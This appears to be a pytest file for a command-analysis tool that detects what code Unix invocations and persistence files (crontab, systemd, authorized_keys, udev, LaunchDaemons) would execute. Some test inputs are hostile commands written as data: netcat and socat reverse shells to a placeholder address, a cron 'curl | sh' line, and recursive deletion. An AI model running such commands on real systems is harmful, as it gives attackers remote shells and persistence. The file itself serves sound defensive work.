"""What programs of Unix run, and what they do not."""

from __future__ import annotations

import pytest

from vedette.commands.base import Call, Scope, Word
from vedette.commands.budget import Budget
from vedette.commands.programs import nested
from vedette.commands.programs.later import of_file
from vedette.schema.command import Language


def runs(*words: str, stdin: bytes | None = None, files: dict[str, bytes] | None = None) -> list[tuple[str, str]]:
    call = Call(Word(words[0], 0, 0), [Word(w, 0, 0) for w in words[1:]], Language.SH, stdin=stdin)
    return [(n.language.value, n.text) for n in nested(call, Scope(Budget(), files=files or {}))]


RUNS = [
    (("bash", "-c", "id; ls"), ("sh", "id; ls")),
    (("/bin/sh", "-lc", "id"), ("sh", "id")),
    (("zsh", "--no-rcs", "-c", "id", "a"), ("sh", "id")),
    (("sudo", "-u", "bob", "-E", "X=1", "sh", "-c", "a b"), ("sh", "sh -c 'a b'")),
    (("env", "-i", "A=1", "id", "-u"), ("sh", "id -u")),
    (("env", "-S", "sh -c id"), ("sh", "sh -c id")),
    (("timeout", "-s", "KILL", "5", "id"), ("sh", "id")),
    (("nice", "-n", "5", "id"), ("sh", "id")),
    (("su", "-", "bob", "-c", "id"), ("sh", "id")),
    (("flock", "/tmp/l", "-c", "id"), ("sh", "id")),
    (("watch", "-n", "1", "ls -l"), ("sh", "ls -l")),
    (("find", "/", "-exec", "rm", "{}", ";"), ("sh", "rm '{}'")),
    (("ssh", "-p", "22", "-o", "A=b", "h", "id", "-u"), ("sh", "id -u")),
    (("ssh", "-o", "ProxyCommand=nc x", "h"), ("sh", "nc x")),
    (("script", "-qc", "id", "/dev/null"), ("sh", "id")),
    (("expect", "-c", "spawn ssh h; interact"), ("sh", "ssh h")),
    (("tmux", "new-session", "-d", "-s", "x", "id"), ("sh", "id")),
    (("screen", "-dmS", "x", "sh", "-c", "id"), ("sh", "sh -c id")),
    (("systemd-run", "--unit", "x", "id"), ("sh", "id")),
    (("python3", "-c", "x=1"), ("python", "x=1")),
    (("python2.7", "-Ssc", "x=1"), ("python", "x=1")),
    (("perl", "-MIO::Socket", "-e", "f()"), ("perl", "f()")),
    (("perl", "-ne", "print"), ("perl", "print")),
    (("ruby", "-rsocket", "-e", "f"), ("ruby", "f")),
    (("php", "-n", "-r", "f();"), ("php", "f();")),
    (("node", "--eval", "f()"), ("javascript", "f()")),
    (("gawk", "-F:", "-v", "a=b", "{f()}"), ("awk", "{f()}")),
    (("osascript", "-e", 'do shell script "id \\"a\\""'), ("sh", 'id "a"')),
    (("lua", "-e", "os.execute('id')"), ("sh", "id")),
    (("vim", "-c", ":!id"), ("sh", "id")),
    (("vim", "-c", ":py3 f()"), ("python", "f()")),
    (("gdb", "-nx", "-ex", "!id", "-ex", "quit"), ("sh", "id")),
    (("tar", "cf", "x", "--checkpoint-action=exec=sh x.sh"), ("sh", "sh x.sh")),
    (("tar", "xf", "x", "--to-command", "sh -c id"), ("sh", "sh -c id")),
    (("zip", "a", "b", "-T", "-TT", "sh #"), ("sh", "sh")),
    (("rsync", "-e", "sh -c 'id'", "a:b"), ("sh", "sh -c 'id'")),
    (("git", "-c", "core.pager=sh -c id", "log"), ("sh", "sh -c id")),
    (("git", "-c", "alias.x=!id -u", "x"), ("sh", "id -u")),
    (("socat", "TCP:192.0.2.1:4", "EXEC:bash -li,pty,stderr"), ("sh", "bash -li")),
    (("nc", "-e", "/bin/sh", "192.0.2.1", "4"), ("sh", "/bin/sh")),
    (("ncat", "--sh-exec", "id -u", "192.0.2.1"), ("sh", "id -u")),
    (("make", "-s", "--eval=x:\n\t-id"), ("sh", "id")),
    (("mysql", "-u", "root", "-p", "-e", "select 1"), ("sql", "select 1")),
    (("psql", "-h", "x", "-c", "select 1"), ("sql", "select 1")),
    (("sqlite3", "x.db", ".shell id"), ("sql", ".shell id")),
    (("strace", "-o", "/dev/null", "id"), ("sh", "id")),
    (("/lib64/ld-linux-x86-64.so.2", "/bin/id"), ("sh", "/bin/id")),
    (("launchctl", "submit", "-l", "x", "--", "id"), ("sh", "id")),
    (("start-stop-daemon", "-S", "-x", "/bin/sh", "--", "-c", "id"), ("sh", "/bin/sh -c id")),
    (("busybox", "sh", "-c", "id"), ("sh", "sh -c id")),
    (("ip", "netns", "exec", "n", "id"), ("sh", "id")),
    (("sed", "-n", "1e id"), ("sh", "id")),
]


@pytest.mark.parametrize(("words", "expected"), RUNS)
def test_runs(words: tuple[str, ...], expected: tuple[str, str]) -> None:
    assert expected in runs(*words)


@pytest.mark.parametrize(
    "words",
    [
        ("bash", "--version"),
        ("sudo", "-l"),
        ("env",),
        ("timeout", "5"),
        ("find", "/", "-name", "x"),
        ("ssh", "host"),
        ("python3", "x.py"),
        ("perl", "-v"),
        ("vim", "-c", "set nu"),
        ("tar", "xzf", "a.tgz"),
        ("tar", "-I", "zstd", "-xf", "a"),
        ("git", "-c", "core.pager=less", "log"),
        ("git", "-c", "user.name=a b", "commit"),
        ("nc", "-l", "4444"),
        ("socat", "TCP:192.0.2.1:4", "-"),
        ("make", "all"),
        ("rsync", "-e", "ssh", "a:b", "c"),
        ("echo", "* * * * * id"),
        ("crontab", "-l"),
        ("sed", "s/a/e b/", "x"),
    ],
)
def test_runs_nothing(words: tuple[str, ...]) -> None:
    assert runs(*words) == []


@pytest.mark.parametrize(
    ("words", "stdin", "expected"),
    [
        (("bash",), b"id", [("sh", "id")]),
        (("bash", "-s", "--", "a"), b"id $1", [("sh", "id $1")]),
        (("sh", "-"), b"id", [("sh", "id")]),
        (("python3", "-"), b"f()", [("python", "f()")]),
        (("perl",), b"f()", [("perl", "f()")]),
        (("at", "now"), b"id\n", [("sh", "id\n")]),
        (("crontab", "-"), b"# x\n*/5 * * * * id -u\n@reboot ls\nA=b\n", [("sh", "id -u"), ("sh", "ls")]),
        (("xargs", "-n1", "curl"), b"a b", [("sh", "curl a"), ("sh", "curl b")]),
        (("xargs", "-I{}", "sh", "-c", "x {}"), b"a\nb\n", [("sh", "sh -c 'x a'"), ("sh", "sh -c 'x b'")]),
        (("ed", "x"), b"!id\nq\n", [("sh", "id")]),
        (("make", "-f", "-"), b"x:\n\t@id\n", [("sh", "id")]),
        (("mysql",), b"select 1", [("sql", "select 1")]),
        (("ssh", "h"), b"id", [("sh", "id")]),
    ],
)
def test_runs_what_it_reads(words: tuple[str, ...], stdin: bytes, expected: list[tuple[str, str]]) -> None:
    assert runs(*words, stdin=stdin) == expected


def test_runs_a_script_that_was_written() -> None:
    assert runs("bash", "/tmp/x", "a", files={"/tmp/x": b"id $1"}) == [("sh", "id $1")]
    assert runs("perl", "x.pl", files={"x.pl": b"f()"}) == [("perl", "f()")]
    assert runs("bash", "/tmp/y", files={"/tmp/x": b"id"}) == []


@pytest.mark.parametrize(
    ("path", "text", "expected"),
    [
        ("/etc/crontab", "*/5 * * * * root curl x | sh", ["curl x | sh"]),
        ("/etc/cron.d/x", "@reboot root id\n", ["id"]),
        ("/var/spool/cron/root", "0 1 * * 1-5 id -u", ["id -u"]),
        (
            "/etc/systemd/system/x.service",
            "[Service]\nExecStartPre=-/bin/a\nExecStart=/bin/b -c\n",
            ["/bin/a", "/bin/b -c"],
        ),
        ("/root/.ssh/authorized_keys", 'command="id \\"a\\"" ssh-rsa A', ['id "a"']),
        ("/home/x/.bashrc", "id", ["id"]),
        ("/home/x/.config/autostart/a.desktop", "[Desktop Entry]\nExec=/tmp/a b\n", ["/tmp/a b"]),
        (
            "/Library/LaunchDaemons/a.plist",
            "<key>ProgramArguments</key><array>"
            "<string>sh</string><string>-c</string><string>a &amp; b</string></array>",
            ["sh -c 'a & b'"],
        ),
        ("/etc/udev/rules.d/9.rules", 'ACTION=="add", RUN+="/bin/sh -c id"', ["/bin/sh -c id"]),
        ("/tmp/crontab.txt", "* * * * * id", []),
        ("/etc/crontab", "just a note", []),
        ("/root/.ssh/authorized_keys", "ssh-rsa AAAA me", []),
    ],
)
def test_what_runs_later(path: str, text: str, expected: list[str]) -> None:
    assert [n.text for n in of_file(path, text.encode())] == expected
